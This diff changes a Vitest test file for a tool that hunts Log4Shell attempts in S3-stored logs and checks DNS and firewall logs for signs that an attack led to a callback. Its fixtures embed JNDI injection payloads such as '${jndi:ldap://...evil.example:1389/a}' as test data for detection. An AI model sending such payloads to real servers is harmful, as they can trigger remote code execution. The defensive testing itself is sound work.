@@ -3,6 +3,7 @@ import { afterEach, expect, test } from 'vitest'
 import { openS3, type S3Manners, type S3Server, s3Keys } from '../../../../test/kit/s3-server.ts'
 import { tarOf } from '../../../../test/kit/tar.ts'
 import type { AttackFinding, Gap } from '../../../core/index.ts'
+import type { HuntOptions } from '../hunt.ts'
 import { type BucketRequest, bucketPlaceOf, huntBucket } from './hunt-bucket.ts'
 
 const open: S3Server[] = []
@@ -18,16 +19,23 @@ async function started(manners: S3Manners = {}): Promise<S3Server> {
 
 const attack = (name: string): string => `x \${jndi:ldap://${name}.example/a}\n`
 
-async function hunted({ endpoint }: S3Server, prefix = '', request: Partial<BucketRequest> = {}) {
+async function hunted(
+  { endpoint }: S3Server,
+  prefix = '',
+  request: Partial<BucketRequest> = {},
+  options: HuntOptions = {},
+) {
   const findings: AttackFinding[] = []
   const gaps: Gap[] = []
+  const notes: string[] = []
   const place = { places: [{ bucket: 'logs', prefix }], endpoint, keys: s3Keys, region: 'us-east-1', retryAfterMs: 1 }
-  for await (const event of huntBucket({ ...place, ...request }, { workers: 1 })) {
+  for await (const event of huntBucket({ ...place, ...request }, { workers: 1, ...options })) {
     if (event.is === 'finding') findings.push(event.finding)
     else if (event.is === 'gap') gaps.push(event.gap)
+    else if (event.is === 'note') notes.push(event.text)
   }
   const found = findings.map(({ at, lookup }) => `${at.source}:${at.line} ${lookup.host?.replace('.example', '')}`)
-  return { found: found.sort(), findings, gaps }
+  return { found: found.sort(), findings, gaps, notes }
 }
 
 test('objects are read by what they contain: text, packed, archived', async () => {
@@ -194,4 +202,62 @@ test.each([
 
 test.each([['/var/log'], ['s3:/logs'], ['s3://'], ['https://logs/']])('%s is no bucket', (word) => {
   expect(bucketPlaceOf(word)).toBeNull()
+})
+
+const query = (name: string): string =>
+  `10-Dec-2021 12:43:12.416 queries: info: client @0x7f2a40 10.0.0.5#53211 (${name}): query: ${name} IN A + (10.0.0.53)\n`
+const access = (host: string): string =>
+  `203.0.113.83 - - [10/Dec/2021:12:43:11 +0000] "GET / HTTP/1.1" 200 612 "-" "\${jndi:ldap://${host}:1389/a}"\n`
+
+test('what came of attacks is looked for in the objects that say who went out, packed or not', async () => {
+  const server = await started()
+  await server.put('logs', 'a/named.log', query('x.evil.example'))
+  await server.put('logs', 'b/named.log.gz', gzipSync(query('y.evil.example')))
+  await server.put('logs', 'c/dnsmasq.log', 'dnsmasq[812]: reply z.evil.example is 198.51.100.66\n')
+  await server.put(
+    'logs',
+    'd/kern.log',
+    '2021-12-10T12:43:12+00:00 fw kernel: [1.5] OUT: IN= OUT=eth0 SRC=10.0.0.5 DST=198.51.100.66 LEN=60 PROTO=TCP SPT=40000 DPT=1389 SYN\n',
+  )
+  await server.put('logs', 'e/access.log', ['x', 'y', 'z', 'w'].map((name) => access(`${name}.evil.example`)).join(''))
+  const { findings, gaps, notes } = await hunted(server)
+
+  expect(gaps).toEqual([])
+  expect(
+    findings.map(({ lookup, outcome, evidence }) => [
+      lookup.host,
+      outcome,
+      ...evidence.flatMap((each) => (each.kind === 'witness' ? [each.source] : [])),
+    ]),
+  ).toEqual([
+    ['x.evil.example', 'likely', 's3://logs/a/named.log'],
+    ['y.evil.example', 'likely', 's3://logs/b/named.log.gz'],
+    ['z.evil.example', 'likely', 's3://logs/d/kern.log'],
+    ['w.evil.example', 'attempt'],
+  ])
+  expect(notes).toEqual([
+    'what came of attacks was looked for in s3://logs/a/named.log, s3://logs/b/named.log.gz, s3://logs/c/dnsmasq.log, s3://logs/d/kern.log',
+  ])
+  const gets = server.heard.filter((line) => line.includes('access.log'))
+  expect(gets).toHaveLength(1)
+})
+
+test('with a window of nothing each object is fetched once', async () => {
+  const server = await started()
+  await server.put('logs', 'named.log', query('x.evil.example'))
+  await server.put('logs', 'access.log', access('x.evil.example'))
+  const { findings, notes } = await hunted(server, '', {}, { windowMs: 0 })
+
+  expect(findings.map(({ outcome }) => outcome)).toEqual(['attempt'])
+  expect(notes).toEqual([])
+  expect(server.heard.filter((line) => line.includes('named.log'))).toHaveLength(1)
+})
+
+test('what cannot be read is told once, though it is fetched twice', async () => {
+  const server = await started()
+  await server.put('logs', 'named.log.gz', gzipSync(query('x.evil.example').repeat(1_000)).subarray(0, 100))
+  await server.put('logs', 'access.log', access('x.evil.example'))
+  const { gaps } = await hunted(server)
+
+  expect(gaps.map(({ at, because }) => `${at} ${because}`)).toEqual(['s3://logs/named.log.gz truncated'])
 })
